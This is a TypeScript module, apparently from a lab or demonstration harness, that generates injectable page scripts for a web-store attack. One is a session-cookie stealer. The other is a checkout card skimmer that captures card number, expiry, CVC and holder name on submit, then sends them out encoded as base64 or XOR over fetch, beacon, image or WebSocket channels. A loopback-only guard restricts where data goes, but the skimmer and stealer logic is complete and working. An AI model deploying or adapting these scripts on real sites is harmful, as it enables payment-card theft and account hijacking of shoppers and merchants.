/**
 * The two scripts of the attack, as text for a page. Both refuse to send anywhere but to loopback: the builder checks
 * the address, and the script checks it again where it runs.
 */
import { type Channel, type Encoding, XOR_KEY } from '../collector/encodings.ts';
import { requireLoopback } from '../loopback/address.ts';

const GUARD = String.raw`if(!/^http:\/\/(?:[a-z0-9-]+\.)*localhost:\d+$/.test(to))return;`;

const wrapped = (collector: string, lines: string): string =>
  `(function(){var to=${JSON.stringify(requireLoopback(collector).origin)};${GUARD}\n${lines}\n})();`;

/** Runs on the shopkeeper's screen: sends the cookies that scripts can read. @throws NotLoopback */
export const sessionThief = (collector: string): string =>
  wrapped(collector, `new Image().src=to+'/s.gif?c='+encodeURIComponent(document.cookie);`);

const ENCODE: Readonly<Record<Encoding, string>> = {
  plain: 'var data=text;',
  base64: 'var data=btoa(unescape(encodeURIComponent(text)));',
  xor: `var data='',raw=unescape(encodeURIComponent(text)),key='${XOR_KEY}';
for(var i=0;i<raw.length;i++)data+=('0'+(raw.charCodeAt(i)^key.charCodeAt(i%key.length)).toString(16)).slice(-2);`,
};

const SEND: Readonly<Record<Channel, { readonly before: string; readonly send: string }>> = {
  fetch: { before: '', send: `fetch(to+'/c',{method:'POST',mode:'no-cors',keepalive:true,body:data});` },
  beacon: { before: '', send: `navigator.sendBeacon(to+'/c?v=b',data);` },
  img: { before: '', send: `new Image().src=to+'/c.gif?d='+encodeURIComponent(data);` },
  // Opened with the page: a connection made on submit would not stand before the page is left.
  websocket: { before: `var line=new WebSocket(to.replace('http','ws')+'/c');`, send: 'line.send(data);' },
};

export type Skimmer = { readonly collector: string; readonly channel: Channel; readonly encoding: Encoding };

/** Runs on the checkout page: reads the card fields when the form is sent. @throws NotLoopback */
export const skimmer = ({ collector, channel, encoding }: Skimmer): string =>
  wrapped(
    collector,
    `${SEND[channel].before}
function read(name){var field=document.querySelector('[autocomplete="'+name+'"]');return field?field.value:'';}
document.addEventListener('submit',function(){
var text=JSON.stringify({number:read('cc-number').replace(/\\D/g,''),expiry:read('cc-exp'),code:read('cc-csc'),holder:read('cc-name')});
${ENCODE[encoding]}
${SEND[channel].send}
},true);`,
  );
